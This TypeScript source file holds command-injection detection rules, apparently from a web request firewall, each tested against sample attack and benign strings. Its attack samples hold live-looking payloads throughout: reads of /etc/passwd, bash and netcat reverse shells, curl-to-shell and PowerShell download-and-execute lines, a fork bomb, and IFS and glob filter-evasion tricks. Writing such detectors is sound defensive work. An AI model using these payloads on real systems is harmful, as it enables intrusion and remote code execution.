import { ShellCommandLexer } from '../lex/shell-command.ts'
import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

const shell = new ShellCommandLexer()

const SEPARATORS =
  CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.backtick | CHAR.newline | CHAR.dollar | CHAR.backslash

const INTO_SHELL = /\b(?:curl|wget)\s|\n|\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh\b\s{0,4}/g
/** Characters between what fetches a script and the pipe. */
const FETCH_REACH = 120

/** A pipe into a shell, at the end of the text or behind what fetches a script, on one line. */
function findPipeIntoShell({ lower }: Reading): Span | undefined {
  let fetch = -1
  for (const found of lower.matchAll(INTO_SHELL)) {
    const end = found.index + found[0].length
    if (!found[0].startsWith('|')) fetch = found[0] === '\n' ? -1 : found.index
    else if (end === lower.length) return { start: found.index, end }
    else if (fetch >= 0 && found.index - fetch <= FETCH_REACH) return { start: fetch, end }
  }
  return undefined
}

/** Operating system commands. */
export const rceRules: readonly Rule[] = [
  {
    id: 'rce/separated',
    family: 'rce',
    score: 6,
    quotable: true,
    chars: SEPARATORS,
    words: 0,
    find: reading => shell.find(reading),
    attacks: [
      '; cat /etc/passwd',
      '127.0.0.1 && ls /etc',
      '|getent hosts x.example',
      '$(whoami)',
      '`id`',
      ';$(printf "x"|rev)',
      ";c'a't /etc/passwd",
      ';getent$IFS$9hosts$IFS$9x.example;',
      '|$u wget test',
      "x;'rmt' --version",
      '; wget http://x/sh',
      'a.jpg;id',
      'x&&id',
      "a'|id|'",
      ';echo test',
      ';who``ami',
      ';sudo -l',
      ';env -i id',
      'x;echo aWQ= | base64 -d',
      '; dig x.example',
      '\nwhoami',
    ],
    benign: [
      'Tom & Jerry',
      'R&D; find out more',
      'cats & dogs; who knows',
      'first, cat; then dog',
      'The parameter 5 is&|.',
      'he said `hello`',
      'price: $(5)',
      'alpha; sort by name & date',
      'name; id',
      'name|id|date',
      '-----\nSed 4.2.1',
      '<b>(copy)</b>',
      'x & more',
      'the | less, the better',
    ],
  },
  {
    id: 'rce/start',
    family: 'rce',
    score: 5,
    quotable: true,
    chars: 0,
    words: WORD.shell,
    find: reading => ((reading.chars & SEPARATORS) === 0 ? shell.find(reading) : undefined),
    attacks: ['time ifconfig', 'strace ifconfig', '/bin/cat /etc/passwd', '/usr/[a-z]in/bash'],
    benign: [
      'cat food',
      'passwd',
      'ping pong',
      'time table',
      'node js',
      'nc 8000 controller',
      'zsh is the best!',
      'time he came.',
      'sudo apt-get update',
      'python -m pip install http://example.com/x.zip',
      'apt-get is a tool for packages that many people use',
    ],
  },
  pattern(
    'rce/glob',
    /(?:^|[\s;|&`(<])\/(?!\[[a-z_]\w{1,24}\]\/[\w-]{2,16}(?:$|\s))\w{0,4}[?[][\w?*[\]]{0,8}\/[\w?*[\]]{1,16}(?:[\s;|&`)]|$)|(?:^|[\s=])\/(?:\w{1,8}\/){0,3}\w{0,4}\[[!^\w/]{1,8}\]\w/,
    {
      score: 5,
      bare: true,
      quotable: true,
      chars: CHAR.slash,
      attacks: ['/???/c?t', ';/b?n/ls'],
      benign: ['/a/b', 'and/or?', '/api/?x=1/2'],
    },
  ),
  pattern('rce/shellshock', /^[\s"']{0,4}(?:[\w.-]{1,32}=)?\(\s{0,4}\)\s{0,4}\{[^}\n]{0,24}(?:[:;]|$|\})/, {
    score: 5,
    chars: CHAR.brace,
    atStart: true,
    quotable: true,
    attacks: ['() { :;}; /bin/bash -c "cat /etc/passwd"', '() {'],
    benign: ['{ a: 1 }', 'function (x) { return x }'],
  }),
  pattern(
    'rce/ifs',
    /\$\{?ifs(?:\b|\})|\$\{[a-z_]{0,16}(?:[#%/^@]|:\d)[^}]{0,24}\}|\$\[\s{0,4}\]|\$\(\(|\$\{?(?:shell|bash|0)\}?\s{1,4}-c\b|^\s{0,4}\$\{?(?:path|home|pwd|shell)\}?[/{:]/,
    {
      score: 5,
      bare: true,
      quotable: true,
      chars: CHAR.dollar,
      attacks: ['cat${IFS}x', '${PATH#{}/}', '$SHELL -c "echo hi"', 'math=$[]'],
      benign: ['${name}', '$HOME is where', 'costs $5'],
    },
  ),
  // A program in its bytes, or bytes that go into a folder which everyone may write to.
  pattern(
    'rce/dropped-bytes',
    /\b(?:echo|printf)\s{1,4}(?:-[en]{1,2}\s{1,4}){0,2}["'$]{0,2}(?:\\{1,4}x7f\\{1,4}x45\\{1,4}x4c|\\{1,4}0?177elf|(?:\\{1,4}(?:x[\da-f]{2}|0?[0-3][0-7]{2})){3,200}["']?\s{0,4}>{1,2}\s{0,4}\/(?:tmp|dev\/shm|var\/tmp)\/)/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.backslash,
      attacks: [
        'bg_system echo -en \\x7f\\x45\\x4c\\x46\\x01',
        "printf '\\177\\105\\114\\106\\001'>>/tmp/a",
        'echo -ne "\\x01\\x02\\x03">/dev/shm/x',
      ],
      benign: ['echo -e "\\xe2\\x9c\\x93 done"', "printf '\\x1b[31m'", 'printf "\\x41\\x42\\x43" > out.bin'],
    },
  ),
  // Between two words, in place of the space that a filter refuses.
  pattern('rce/ifs-joined', /[\w;|&`(]\$(?:\{IFS(?:\}|[^}\n]{1,12}\})|IFS(?:\$\d)?)[\w/<>~.$-]/, {
    score: 5,
    quotable: true,
    // Shells tell capitals apart, and salts of passwords hold any three letters behind a dollar.
    exactCase: true,
    chars: CHAR.dollar,
    attacks: ['touch${IFS}/tmp/x', 'cat$IFS/etc/x', ';${IFS}id', 'a;curl${IFS}x'],
    benign: ['p=4$8tC4zK6A$iFs7q6C', 'IFS="$IFS"', '${IFS}', 'for i in $IFS'],
  }),
  // A word cut out of a variable, behind a separator: hidden, and no setting of any program.
  pattern('rce/cut-variable', /[;&|`(]\s{0,4}\$\{[a-z_]{1,16}:\d{1,3}(?::\d{1,3})?\}\w/, {
    score: 5,
    quotable: true,
    chars: CHAR.dollar,
    attacks: [';${PATH:0:1}bin${PATH:0:1}id'],
    benign: ['${name:0:1}', 'a; ${name}'],
  }),
  pattern(
    'rce/braces',
    /\{[a-z/]{1,12},(?:-[\w-]{1,12}|https?:\/\/|[\w.*-]{0,16}\/[\w./*-]{1,32})|^\s{0,4}\{,[a-z]{2,12},|!-\d!-\d|\{[a-z]?,-[a-z]{1,4}\}(?<!(?:[a-z,:] [a-z\d-]{6,64}|^[a-z][a-z\d-]{4,63}\d)\{[a-z]?,-[a-z]{1,4}\})/,
    {
      score: 5,
      bare: true,
      quotable: true,
      chars: CHAR.brace | CHAR.bang,
      words: 0,
      places: ['query', 'body', 'name', 'cookie', 'header'],
      attacks: ['{cat,/etc/passwd}', '{l,-lh}s', '!-1!-2'],
      benign: ['{a, b}', '{"a": 1, "b": 2}', 'import { a, b }', 'the packages libxmu6{,-dbg}'],
    },
  ),
  pattern('rce/program', /^\s{0,4}(?:\/usr(?:\/local)?)?\/s?bin\/[a-z][\w.+-]{1,32}\s{0,4}$/, {
    score: 5,
    bare: true,
    atStart: true,
    chars: CHAR.slash,
    places: ['query', 'form', 'cookie'],
    attacks: ['/bin/ab', '/usr/local/bin/cscli'],
    benign: ['/bin/', '/usr/share/x', '/bin/build/output.txt', 'bin/x'],
  }),
  pattern('rce/tilde', /^\s{0,4}~\+\d{0,2}\s{0,4}$/, {
    score: 5,
    bare: true,
    atStart: true,
    chars: CHAR.plus,
    attacks: ['~+'],
    benign: ['~5', '+-'],
  }),
  pattern(
    'rce/reverse-shell',
    /\/dev\/(?:tcp|udp)\/(?!(?:localhost|127\.0\.0\.1|0\.0\.0\.0)\/)|\bn(?:c|cat|etcat)\b[^\n]{0,40}\s-{1,2}(?:e|exec|c)\s{1,4}[\w/]{0,12}(?:sh|cmd)|\bmkfifo\s{1,4}\/tmp|\bbash\s{1,4}-i\b/,
    {
      score: 5,
      quotable: true,
      words: WORD.shell | WORD.file,
      attacks: ['bash -i >& /dev/tcp/1.2.3.4/99', 'nc 1.2.3.4 99 -e /bin/sh'],
      benign: ['the bash shell', 'dev team | tcp', 'nc 8000 controller', 'exec 3<>/dev/tcp/localhost/9000'],
    },
  ),
  {
    id: 'rce/into-shell',
    family: 'rce',
    score: 5,
    quotable: true,
    bare: true,
    chars: CHAR.pipe,
    words: WORD.shell,
    needs: [/\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh/],
    find: findPipeIntoShell,
    attacks: ['curl http://x | sh', 'x | bash', 'wget -qO- http://x | sudo sh -s'],
    benign: ['the | shell', 'curl x | less', 'curl x\nls | sh -c a'],
  },
  pattern(
    'rce/windows',
    /\bfor\s{0,12}(?:\/[dflr]\b[^\n]{0,40}?\s{1,12}){0,4}%{1,2}[^\s%]{0,16}\s{1,8}in\s{0,8}\(|^\s{0,4}(?:&\s{0,4})?if(?!\s__name__)(?:\s{1,12}|(?=\/i))(?:\/i\s{1,12})?(?:not\s{1,12})?(?:exist\s{1,12}["\w.\\%:~-]{1,60}\s{1,12}[\w(]|defined\s{1,12}(?!(?:as|at|by|for|from|in|on|outside|per|to|under|using|via|with|within)\s(?:an?|any|each|its|my|our|that|the|their|these|this|those|your)\s[^&|\n]{0,400}$)(?!(?<!\bnot\s{1,12}defined\s{1,12})(?:as|at|by|for|from|in|on|outside|per|to|under|using|via|with|within)\s[^&|\n]{0,400}$)\w{1,24}\s{1,12}\w|errorlevel\s{1,12}\d|(?:["%[{][^=\n]{0,32}|\([^()=\n]{0,24}\)|\w{1,24}%?\w{0,8})\s{0,4}={2,3}\s{0,4}[^\s=]{1,32}[^=\n]{0,8}?\s{1,24}[\w(.{]|\{%?\w{0,8}\}\s{0,4}==|["(]?%?\w{1,24}%?[")]?\s{1,12}(?:equ|neq|lss|leq|gtr|geq)\s)/,
    {
      score: 5,
      quotable: true,
      words: WORD.windows,
      attacks: [
        'FOR /F "delims=" %G IN (\'ECHO foo\') DO @Echo %G',
        'IF EXIST data.xls Echo found',
        'if "%VAR%"==%%A do echo true',
        'IF /I NOT 1==2 CMD',
      ],
      benign: ['for 5% in (total)', 'if not now, when', 'if you exist', 'If defined in the intent, it runs'],
    },
  ),
  pattern(
    'rce/powershell',
    /\b(?:invoke-(?:(?:expression|command)\s{0,4}[("'$&{-]|shellcode|mimikatz)|new-object\s{1,4}(?:system\.|net\.)|downloadstring\s{0,4}\(|start-bitstransfer|(?:powershell|pwsh)(?:\.exe)?\s(?:[^\n]{0,80}\s)?-(?:e|en|enc|enco\w{0,10}|ec|w|win\w{0,8}|nop|nopr\w{0,6}|noni\w{0,12}|ep|ex|exec\w{0,12})\b)|\|\s{0,4}invoke-expression\b|frombase64string\s{0,4}\(|\[system\.net\.|[&|]\s{0,4}echo\s{1,4}%\w{2,24}%|[&|;]\s{0,4}(?:(?:powershell|pwsh|cmd)(?:\.exe)?\s{1,4}[-/]\w|reg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}["']?hk|(?:type|copy|dir)\s{1,4}["']?%\w{2,24}%\\)/,
    {
      score: 5,
      quotable: true,
      words: WORD.powershell,
      attacks: [
        '& echo %PATH%',
        'powershell -enc AAAA',
        'powershell.exe -nop -w hidden -c x',
        "IEX(New-Object Net.WebClient).DownloadString('http://x')",
        'x|powershell -c id',
        '| reg add "HKLM',
        '& type %SYSTEMROOT%\\repair\\SAM',
      ],
      benign: ['start processing', 'powershell is nice', 'powershell -File build.ps1'],
    },
  ),
  // What people quote of their own machines too, and breaks out of nothing.
  pattern(
    'rce/powershell-command',
    /\b(?:invoke-(?:webrequest|restmethod|item)|start-process|set-executionpolicy|powershell(?:\.exe)?\s{1,4}-\w|(?:iwmi|invoke-wmimethod|icim|invoke-cimmethod)\s{1,4}-[a-z]|get-(?:wmiobject|ciminstance)\s{1,4}[-\w]|get-(?:childitem|process|content)\s{1,4}[-\w][^\n]{0,80}\|)|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|%(?:comspec|systemroot|windir|username)%|\breg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}["']?hk/,
    {
      score: 5,
      bare: true,
      quotable: true,
      words: WORD.powershell,
      attacks: [
        'reg query HKLM',
        'reg add "HKLM',
        'Invoke-WebRequest http://x/f.ps1',
        'cmd.exe /c dir',
        'powershell -Command whoami',
      ],
      benign: ['start processing', 'powershell is nice', 'invoke a function'],
    },
  ),
  pattern(
    'rce/alias',
    /^\s{0,4}alias\s{1,8}(?:-p\s{1,4})?'?[\w-]{1,16}'?=\S|^\s{0,4}(?:echo|printf)\s[^\n]{1,80}\|\s{0,4}(?:tac|rev|base64|xxd|sh|bash|tr)\b|^[\s+|&;]{0,8}(?:dir|type|copy|del)\s{1,4}[a-z]:[/\\]|[|&][\s+]{0,4}(?:dir|type|copy|del)[\s+]{1,4}[a-z]:[/\\]/,
    {
      score: 5,
      bare: true,
      atStart: true,
      words: WORD.shell,
      attacks: ['alias a=b', 'printf x | rev | sh', '+dir+c:/', 'dir c:/', 'see +|+dir+c:/ now'],
      benign: ['alias name', 'echo chamber', 'type c'],
    },
  ),
  // `;while true;do x;done`, `;. /tmp/x`, `;>/tmp/x`: the shell's own grammar behind a separator.
  pattern(
    'rce/grammar',
    /^[\w.:"'-]{0,40}\s{0,2}[;&|]{1,2}\s{0,4}(?:(?:while|until)\s[^;\n]{1,60}[;\n]\s{0,4}do\s|for\s{1,4}\w{1,16}\s{1,4}in\s[^;\n]{1,60}[;\n]\s{0,4}do\s|if\s[^;\n]{1,60}[;\n]\s{0,4}then\s|\. {1,4}[/~.]|\d?>{1,2}\s{0,2}\/\w|\{\s[^}\n]{1,60};\s{0,2}\}|(?:\.\/[\w.-]{1,40}|\/(?:tmp|var\/tmp|dev\/shm)\/[\w./-]{1,60})\s{0,4}$|:\s{0,2}\(\s{0,2}\)\s{0,2}\{)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.semicolon | CHAR.pipe | CHAR.ampersand,
      attacks: [
        ';while true;do id;done',
        ';for i in 1;do id;done',
        'x;if true;then id;fi',
        ';. /tmp/x',
        ';>/tmp/x',
        '|| { id; }',
        ';/tmp/x',
        ';./x.sh',
        ';:(){ :|:& };:',
      ],
      benign: ['; while you wait', 'x; for a in b', '; if true, then', 'a & . b', '<p>a&b</p>'],
    },
  ),
  // What people tell each other to type begins so as well.
  pattern('rce/change-folder', /^\s{0,2}cd\s{1,2}[\w/.~-]{1,40}\s{0,2}(?:;|&&)\s{0,2}[a-z]/, {
    score: 5,
    bare: true,
    quotable: true,
    atStart: true,
    chars: CHAR.semicolon | CHAR.ampersand,
    attacks: ['cd /;cd etc;fold passwd', 'cd /tmp && fold x'],
    benign: ['cd; a', 'a cd && b'],
  }),
  // A value that a program would take for one of its options, of those that name a command or a file to
  // write.
  pattern(
    'rce/option',
    /^\s{0,2}(?:-o\s?(?:proxycommand\s{0,2}[= ]|\/\w)|--(?:output|post-file|upload-file|output-document|log-file|outfile)[= ]\/\w|--(?:upload-pack|receive-pack|checkpoint-action|use-compress-program|to-command|use-askpass|rsh|exec|init-file|open-files-in-pager|ext-diff|pre-invoke)(?:\s{0,2}=[^\n]{1,80}| (?!(?:is|are|was|only|option|flag|does|do|not|can|cannot|requires?|needs|works|must|may|to|in|with|and|or|if|has|should|will|an?|the)\b)[!-~][ -~]{0,79})$)/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.equals | CHAR.dashes | CHAR.scheme,
      places: ['query', 'body', 'cookie', 'header'],
      attacks: ['-oProxyCommand=id', '--output=/tmp/x', '-o/tmp/x http://x', '--checkpoint-action=exec=sh'],
      benign: ['-o', '--output=json', '--verbose', '-old', '--exec is not an option of this'],
    },
  ),
  // The program's own quote ended, and an option behind it that names a script to write.
  pattern(
    'rce/option-break',
    /["']\s{1,4}-{1,2}(?:o|output|output-document)[\s=]{1,4}[\w./-]{1,60}\.(?:php\d?|phtml|jspx?|aspx?|sh|py|pl|cgi)\b/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.quote | CHAR.apostrophe,
      attacks: ['http://evil.example/#" -o x.php -d "'],
      benign: ['gcc "a.c" -o a.out', "curl 'x' -o y.tgz"],
    },
  ),
  // Behind a quote or a bracket of the program that reads it, a shell of Windows that looks around.
  pattern(
    'rce/windows-look',
    /["'(;|&]\s{0,4}cmd(?:\.exe)?\s{1,4}\/[ck]\s{1,4}["']?(?:whoami|dir|net\s{1,4}user|ipconfig|systeminfo|tasklist|type\s|calc|ping\s|certutil|powershell)/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.slash,
      words: WORD.windows,
      attacks: ["RunProcess('cmd /c whoami')", '("cmd.exe /c dir c:")'],
      benign: ['cmd /c dir', 'cmd /k build.bat'],
    },
  ),
  // What tells an intruder that a command ran: a sum that only a shell works out.
  pattern(
    'rce/sum',
    /\bexpr\s{1,4}\d{1,12}\s{1,4}\\?[-+*/%]\s{1,4}\d{1,12}\b|\becho\s{1,4}\$\(\(\s{0,4}\d{1,12}\s{0,4}[-+*/%]/,
    {
      score: 5,
      quotable: true,
      words: WORD.shell,
      attacks: ["'\nexpr 8967 - 9269\n'", 'expr 1987 - 18130&&echo nginx', 'echo $((3*7))'],
      benign: ['an expr of 2', 'expr a - b'],
    },
  ),
  pattern('rce/windows-set', /[|&;]\s{0,4}set\s{1,4}\/a\s/, {
    score: 5,
    chars: CHAR.pipe | CHAR.ampersand | CHAR.semicolon,
    words: WORD.shell,
    attacks: ['| set /a 3482*7301'],
    benign: ['; set a record'],
  }),
  pattern(
    'rce/asp',
    /\bev al\s{0,2}\(|\beval\s{0,2}\+?\(\s{0,2}(?:request|execute|response|[\x22'][^\x22'\n]{0,24}[\x22']\s{0,2}&)|(?:\bos\.|(?<![\w.>$]))execute(?:\s{0,2}\(\s{0,2}(?:request|[\x22'])|\(\s{0,2}\w)|server\.(?:scripttimeout|createobject|mappath)|wscript\.shell|createobject\s{0,4}\((?!\s?[\x22']ro[a-z]{3,24}[\x22'])/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren,
      words: 0,
      attacks: ['Ev al ("Ex"&"e"&"cute("")")', 'CreateObject("WScript.Shell")', 'Execute(x)'],
      benign: [
        'server.listen()',
        'the executed plan',
        'cursor.execute("select 1")',
        'the command to execute (with its arguments)',
      ],
    },
  ),
]
